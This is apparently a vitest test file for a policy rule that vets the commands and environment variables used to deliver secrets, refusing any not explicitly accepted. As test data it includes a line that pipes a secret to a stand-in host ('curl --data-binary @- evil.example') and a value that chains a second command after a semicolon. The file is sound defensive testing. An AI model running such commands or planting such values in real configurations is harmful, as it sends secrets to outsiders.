import { describe, expect, it } from "vitest";
import { desiredDeliveries } from "../../../access/plan/deliveries.ts";
import { evaluateRule } from "../../../policies/evaluate.ts";
import type { Facts } from "../../../policies/facts.ts";
import { factsFromStack } from "../../../policies/fromResource.ts";
import { deliveryCommand } from "../../../policies/rules/delivery-command.ts";
import { settingOf } from "../../../policies/settings.ts";
import { loadFile, planFile } from "../../support/fixtureOrg.ts";
import { resourcesOf } from "../../support/resourceInputs.ts";
import { goodStack } from "../../support/ruleFacts.ts";

const delivery = (command: string, env: readonly string[] = []) =>
  goodStack({ deliveries: [{ client: "app", command, env }] });
const atomsOf = (facts: Facts, options = {}) =>
  evaluateRule(deliveryCommand, facts, settingOf(deliveryCommand, { "delivery-command": options })).map(
    ({ atom }) => atom,
  );

describe("delivery-command", () => {
  it("refuses a command that nobody accepted, at its line", () => {
    const [finding, ...others] = evaluateRule(deliveryCommand, delivery("curl --data-binary @- evil.example"));
    expect(others).toEqual([]);
    expect(finding?.enforcementLevel).toBe("mandatory");
    expect(finding?.path).toEqual(["clients", "app", "secret", "deliver", "command"]);
    expect(finding?.message).toContain('"curl --data-binary @- evil.example"');
  });

  it("accepts a command by its exact text only", () => {
    const options = { commands: ["cat > vault"] };
    expect(atomsOf(delivery("cat > vault"), options)).toEqual([]);
    for (const other of ["cat > vault ", "cat > vault; curl evil.example", "CAT > vault", "cat  > vault"]) {
      expect(atomsOf(delivery(other), options)).toHaveLength(1);
    }
  });

  it("gives each text an id of its own, so that a waiver covers no other command", () => {
    expect(atomsOf(delivery("cat"))).not.toEqual(atomsOf(delivery("cat ")));
  });

  it("refuses each variable that nobody accepted, whatever the command", () => {
    const options = { commands: ["cat"], variables: ["VAULT_ADDR"] };
    expect(atomsOf(delivery("cat", ["VAULT_ADDR"]), options)).toEqual([]);
    const atoms = atomsOf(delivery("cat", ["AWS_SECRET_ACCESS_KEY", "VAULT_ADDR"]), options);
    expect(atoms).toEqual([expect.stringMatching(/^app gives AWS_SECRET_ACCESS_KEY to [0-9a-f]{64}$/)]);
  });

  it("shows a command without what would move a cursor, and says how much of a long one is left", () => {
    const message = (command: string) => evaluateRule(deliveryCommand, delivery(command))[0]?.message ?? "";
    expect(message("cat \u001b[2K\u202e\n| x")).toContain('"cat \\u001b[2K\\u202e\\n| x"');
    expect(message("x".repeat(5_000))).toContain("(and 4000 characters more)");
  });

  it("judges in the pack by the spec, and refuses where there is none", () => {
    const file = "test/fixtures/everything-wrong.yaml";
    const { desired } = planFile(file);
    const resources = resourcesOf(desired).map(({ type, inputs }) => ({ type, props: inputs }));
    const seen = (given: object) =>
      factsFromStack(resources, { name: desired.stack, expectations: [], ...given })?.at(-1) as Facts;
    const deliveries = desiredDeliveries(loadFile(file).value);
    expect(deliveries).toHaveLength(1);
    expect(atomsOf(seen({ deliveries }))).toHaveLength(2);
    expect(atomsOf(seen({}))).toEqual(["unknown:deliveries"]);
  });
});
